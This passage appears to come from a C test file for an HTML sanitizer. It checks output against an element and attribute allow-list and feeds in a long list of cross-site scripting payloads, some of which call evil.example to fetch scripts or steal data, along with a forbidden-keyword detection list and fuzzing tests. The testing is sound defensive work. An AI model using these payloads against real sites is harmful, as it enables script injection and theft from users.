        bool has_href = false, has_rel = false;
        while (*p == ' ') {
            p++;
            const char *an = p;
            while (g_ascii_islower(*p))
                p++;
            g_autofree char *attr = g_strndup(an, (size_t) (p - an));
            if (!*attr || !attr_allowed(el, attr))
                FAIL("attribute not in the allow-list");
            if (p[0] != '=' || p[1] != '"')
                FAIL("unquoted attribute value");
            p += 2;
            const char *v = p;
            while (*p && *p != '"') {
                if (*p == '<' || *p == '>' || *p == '\'' || ((unsigned char) *p < 0x20 && *p != '\t' && *p != '\n'))
                    FAIL("raw markup character in an attribute value");
                p++;
            }
            if (*p != '"')
                FAIL("unterminated attribute value");
            g_autofree char *value = g_strndup(v, (size_t) (p - v));
            p++;
            if (strcmp(attr, "href") == 0) {
                has_href = true;
                if (!(g_ascii_strncasecmp(value, "http:", 5) == 0 ||
                      g_ascii_strncasecmp(value, "https:", 6) == 0 ||
                      g_ascii_strncasecmp(value, "mailto:", 7) == 0 || value[0] == '#'))
                    FAIL("href scheme not allowed");
            }
            if (strcmp(attr, "rel") == 0) {
                has_rel = true;
                if (strcmp(value, "noopener noreferrer nofollow") != 0)
                    FAIL("wrong rel");
            }
        }
        if (*p != '>')
            FAIL("junk in a start tag");
        p++;
        if (strcmp(el, "a") == 0 && !(has_href && has_rel))
            FAIL("a without href and rel");
        if (!in_list(el, nlen, void_elements))
            g_ptr_array_add(stack, g_steal_pointer(&el));
    }
    if (stack->len != 0)
        FAIL("elements left open");
#undef FAIL
    return NULL;
}

/* Fails the test when fragment_problem() finds something; `in` is for the
 * message only. */
static void
check_fragment(const char *in, size_t in_len, const char *out)
{
    size_t where = 0;
    const char *why = fragment_problem(out, &where);
    if (why) {
        g_autofree char *shown = g_strescape(in_len < 300 ? in : "(long input)", NULL);
        g_autofree char *shown_out = g_strescape(strlen(out) < 600 ? out : "(long output)", NULL);
        g_test_message("input '%s'\noutput '%s'\nat offset %zu: %s", shown, shown_out, where, why);
        g_test_fail();
    }
}

/* The checker itself must see what it is there for. */
static void
test_checker(void)
{
    static const struct { const char *out; const char *why; } cases[] = {
        { "<p>ok <b>fine</b></p><ul><li>x</li></ul>", NULL },
        { "<a href=\"#x\" rel=\"noopener noreferrer nofollow\">x</a>", NULL },
        { "<script>alert(1)</script>", "element not in the allow-list" },
        { "<img src=\"x\">", "element not in the allow-list" },
        { "<p onclick=\"alert(1)\">x</p>", "attribute not in the allow-list" },
        { "<p style=\"x\">x</p>", "attribute not in the allow-list" },
        { "<p dir=rtl>x</p>", "unquoted attribute value" },
        { "<a href=\"javascript:alert(1)\" rel=\"noopener noreferrer nofollow\">x</a>",
          "href scheme not allowed" },
        { "<a href=\"http://x/\">x</a>", "a without href and rel" },
        { "<p>x</b>", "end tag does not match the open element" },
        { "<p>x", "elements left open" },
        { "<div><li>x</li></div>", "element in a place a browser would move it from" },
        { "<table><div>x</div></table>", "element in a place a browser would move it from" },
        { "<td>x</td>", "element in a place a browser would move it from" },
        { "<h4><h5>x</h5></h4>", "heading in a heading" },
        { "<p>a > b</p>", "raw markup character in text" },
        { "<p>a & b</p>", "bare ampersand" },
        { "<p>a\x01</p>", "control character" },
        { "<p>\xFF</p>", "invalid UTF-8" },
    };
    for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
        size_t where = 0;
        const char *why = fragment_problem(cases[i].out, &where);
        g_autofree char *shown = g_strescape(cases[i].out, NULL);
        g_test_message("'%s': %s", shown, why ? why : "fine");
        g_assert_cmpstr(why, ==, cases[i].why);
    }
}

/* The words the brief for this module lists: none may survive (the hostile
 * inputs below have no such text outside markup). */
static void
check_no_hostile_words(const char *in, const char *out)
{
    static const char *const words[] = {
        "<script", "javascript:", "vbscript:", "data:", "style=", "<svg", "<math", "<iframe",
        "<object", "<embed", "<meta", "<base", "<link", "<form", "<input", "<img", "src=",
        "expression(", NULL,
    };
    g_autofree char *lower = g_ascii_strdown(out, -1);
    for (const char *const *w = words; *w; w++) {
        if (strstr(lower, *w)) {
            g_test_message("input '%s' output '%s' has '%s'", in, out, *w);
            g_test_fail();
        }
    }
    /* an " on...=" attribute inside a tag */
    for (const char *p = lower; (p = strchr(p, '<')); p++) {
        const char *gt = strchr(p, '>');
        g_autofree char *tag = g_strndup(p, gt ? (size_t) (gt - p) : strlen(p));
        for (const char *q = tag; (q = strstr(q, " on")); q++) {
            const char *r = q + 3;
            while (g_ascii_isalpha(*r))
                r++;
            if (r > q + 3 && *r == '=') {
                g_test_message("input '%s' output '%s' has an event handler", in, out);
                g_test_fail();
            }
        }
    }
}

static const char *const hostile_inputs[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<script/xss src=\"http://evil.example/x.js\"></script>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"fetch('http://evil.example/steal')\">",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    "<body background=\"javascript:alert(1)\">",
    "<div onmouseover=\"document.title='pwned'\">hover</div>",
    "<p/onclick=alert(1)>x",
    "<p\tonclick=alert(1)>x",
    "<p\nonclick=alert(1)>x",
    "<p onclick\n=\nalert(1)>x",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<a href=\"java&#13;script:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=\"http://x.example/\" onclick=\"alert(1)\">x</a>",
    "<a href=\"http://x.example/\"\"onclick=\"alert(1)\">x</a>",
    "<a href=\"http://x.example/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"Set-Cookie\" content=\"a=b\">",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=import href=\"http://evil.example/x.html\">",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"behavior: url(x.htc)\">x</div>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>*{x:expression(alert(1))}</style>",
    "<xss style=\"xss:expression(alert(1))\">",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<td background=\"javascript:alert(1)\">",
    "<div id=\"x\" class=\"y\" data-z=\"w\">x</div>",
    "<!--<script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![if !IE]><script>alert(1)</script><![endif]>",
    "<!--> <script>alert(1)</script> -->",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<!DOCTYPE x [<!ENTITY e \"<script>alert(1)</script>\">]>&e;",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    "<textarea></textarea><script>alert(1)</script>",
    "<a href=\"http://x.example/\"><a href=\"javascript:alert(1)\">x</a></a>",
    "<ul><li>a<div><li>b</li></div></li></ul>",
    "<table><div><table><tr><td>x</td></tr></table></div></table>",
    "<div><td>x</td></div>",
    "<h1><h2>x</h2></h1>",
    "<p><p>x</p></p>",
    "<isindex action=javascript:alert(1) type=image>",
    "<frameset onload=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<img src=\"http://tracker.example/x.gif\" width=1 height=1>",
    "<img srcset=\"http://tracker.example/x.gif 1x\">",
    "<p>\xFF\xFE<scr\xC0ipt>alert(1)</script></p>",
    "<a href=\"\xEF\xBC\x8A" "avascript:alert(1)\">x</a>",
};

static void
test_hostile_inputs(void)
{
    for (size_t i = 0; i < G_N_ELEMENTS(hostile_inputs); i++) {
        const char *in = hostile_inputs[i];
        g_autofree char *out = cor_sanitize_html(in, strlen(in));
        g_autofree char *shown = g_strescape(in, NULL);
        g_test_message("hostile %zu: '%s' -> '%s'", i, shown, out);
        check_fragment(in, strlen(in), out);
        check_no_hostile_words(shown, out);
    }
    /* with NUL bytes */
    static const char nul1[] = "<scr\0ipt>alert(1)</scr\0ipt><img src=x on\0error=alert(1)>";
    static const char nul2[] = "<a href=\"jav\0ascript:alert(1)\">x</a><p o\0nclick=alert(1)>y</p>";
    static const char nul3[] = "\0<\0s\0c\0r\0i\0p\0t\0>\0alert(1)";
    const struct { const char *s; size_t n; } bins[] = {
        { nul1, sizeof nul1 - 1 }, { nul2, sizeof nul2 - 1 }, { nul3, sizeof nul3 - 1 },
    };
    for (size_t i = 0; i < G_N_ELEMENTS(bins); i++) {
        g_autofree char *out = cor_sanitize_html(bins[i].s, bins[i].n);
        check_fragment(bins[i].s, bins[i].n, out);
        check_no_hostile_words("(binary)", out);
    }
}

/* Tag soup from pieces of hostile markup, a fixed seed so a failure repeats. */
static void
test_generated_soup(void)
{
    static const char *const pieces[] = {
        "<", ">", "</", "/>", "\"", "'", "=", " ", "\t", "\n", "\r", "&", "&#", ";", "#", "x", "1",
        "a", "p", "li", "ul", "ol", "dl", "dt", "dd", "div", "span", "table", "tr", "td", "th",
        "tbody", "caption", "colgroup", "col", "h1", "h3", "h6", "b", "i", "pre", "blockquote",
        "script", "style", "svg", "math", "iframe", "img", "form", "input", "textarea", "title",
        "head", "body", "html", "meta", "base", "object", "noscript", "template", "o:p",
        " href=", " src=", " onerror=", " onclick=", " style=", " alt=", " title=", " colspan=",
        " scope=", " lang=", " dir=", " start=", "javascript:", "java\tscript:", "http://x.example/",
        "mailto:a@b", "#f", "data:", "alert(1)", "<!--", "-->", "<![if !mso]>", "<![endif]>",
        "<!DOCTYPE html>", "<?x?>", "<![CDATA[", "]]>", "&lt;", "&amp;", "&#106;", "&#0;", "&bogus;",
        "\xC3\xA9", "\xFF", "\xC3", "\xE2\x82", "\x01", "\x7F", "\xEF\xBF\xBD",
    };
    GRand *rand = g_rand_new_with_seed(20260101);
    GString *in = g_string_new(NULL);
    for (int round = 0; round < 3000; round++) {
        g_string_truncate(in, 0);
        int n = g_rand_int_range(rand, 1, 80);
        for (int k = 0; k < n; k++)
            g_string_append(in, pieces[g_rand_int_range(rand, 0, G_N_ELEMENTS(pieces))]);
        if (g_rand_int_range(rand, 0, 10) == 0)
            g_string_insert_c(in, g_rand_int_range(rand, 0, (gint32) in->len + 1), '\0');
        g_autofree char *out = cor_sanitize_html(in->str, in->len);
        check_fragment(in->str, in->len, out);
        if (g_test_failed())
            break;
    }
    g_string_free(in, TRUE);
    g_rand_free(rand);
}

/* The input need not be NUL-terminated: only `len` bytes are read. */
static void
test_length(void)
{
    const char *s = "<p>abc</p><script>alert(1)</script>";
    g_autofree char *a = cor_sanitize_html(s, 6);
    g_assert_cmpstr(a, ==, "<p>abc</p>");
    g_autofree char *b = cor_sanitize_html(s, 0);
    g_assert_cmpstr(b, ==, "");
    g_autofree char *c = cor_sanitize_html(NULL, 0);
    g_assert_cmpstr(c, ==, "");

    /* a buffer with no terminator at all */
    char *buf = g_malloc(8);
    memcpy(buf, "<b>x</b>", 8);
    g_autofree char *d = cor_sanitize_html(buf, 8);
    g_assert_cmpstr(d, ==, "<b>x</b>");
    g_free(buf);
}

/* Deep nesting: no recursion, balanced output.  libxml2 stops at 256
 * levels (see sanitize.c): below that everything is there. */
static void
test_deep(void)
{
    GString *deep = g_string_new(NULL);
    for (int i = 0; i < 80; i++)
        g_string_append(deep, "<div><blockquote><span>");
    g_string_append(deep, "bottom");
    g_autofree char *out = cor_sanitize_html(deep->str, deep->len);
    g_assert_nonnull(strstr(out, "bottom"));
    check_fragment("(deep)", 6, out);

    for (int i = 0; i < 100000; i++)
        g_string_append(deep, "<div><blockquote><span>");
    g_string_append(deep, "bottom");
    for (int i = 0; i < 100000; i++)
        g_string_append(deep, "</span></p></td>");
    g_autofree char *out1 = cor_sanitize_html(deep->str, deep->len);
    g_string_free(deep, TRUE);
    check_fragment("(deeper)", 8, out1);

    GString *links = g_string_new(NULL);
    for (int i = 0; i < 10000; i++)
        g_string_append(links, "<a href=\"http://x.example/\"><h1><li><td><p>");
    g_autofree char *out2 = cor_sanitize_html(links->str, links->len);
    g_string_free(links, TRUE);
    check_fragment("(nested links)", 14, out2);
}

/* A rough speed check: a 200 kB newsletter-like document well under a second
 * even under ASan; the time goes to the log. */
static void
test_speed(void)
{
    GString *doc = g_string_new("<html><head><style>p{}</style></head><body>");
    while (doc->len < 200000)
        g_string_append(doc, "<table width=600 style=\"x\"><tr><td class=\"c\" style=\"padding:0\">"
                        "<a href=\"https://example.org/track?id=1&amp;u=2\"><img src=\"http://t.example/i.png\" "
                        "alt=\"Offer\"></a><p style=\"margin:0\">Some <b>text</b> &amp; more text "
                        "caf\xC3\xA9.</p></td></tr></table>\n");
    g_string_append(doc, "</body></html>");
    gint64 t0 = g_get_monotonic_time();
    int rounds = 20;
    for (int i = 0; i < rounds; i++) {
        g_autofree char *out = cor_sanitize_html(doc->str, doc->len);
        g_assert_nonnull(out);
    }
    double ms = (double) (g_get_monotonic_time() - t0) / 1000.0 / rounds;
    g_test_message("%zu bytes in %.2f ms", doc->len, ms);
    g_assert_cmpfloat(ms, <, 1000.0);
    g_string_free(doc, TRUE);
}

int
main(int argc, char **argv)
{
    g_test_init(&argc, &argv, NULL);
    xmlInitParser();
    g_test_add_func("/sanitize/dropped", test_dropped);
    g_test_add_func("/sanitize/attributes", test_attributes);
    g_test_add_func("/sanitize/links", test_links);
    g_test_add_func("/sanitize/images", test_images);
    g_test_add_func("/sanitize/structure", test_structure);
    g_test_add_func("/sanitize/tables", test_tables);
    g_test_add_func("/sanitize/text", test_text);
    g_test_add_func("/sanitize/malformed", test_malformed);
    g_test_add_func("/sanitize/checker", test_checker);
    g_test_add_func("/sanitize/hostile-inputs", test_hostile_inputs);
    g_test_add_func("/sanitize/generated-soup", test_generated_soup);
    g_test_add_func("/sanitize/length", test_length);
    g_test_add_func("/sanitize/deep", test_deep);
    g_test_add_func("/sanitize/speed", test_speed);
    return g_test_run();
}
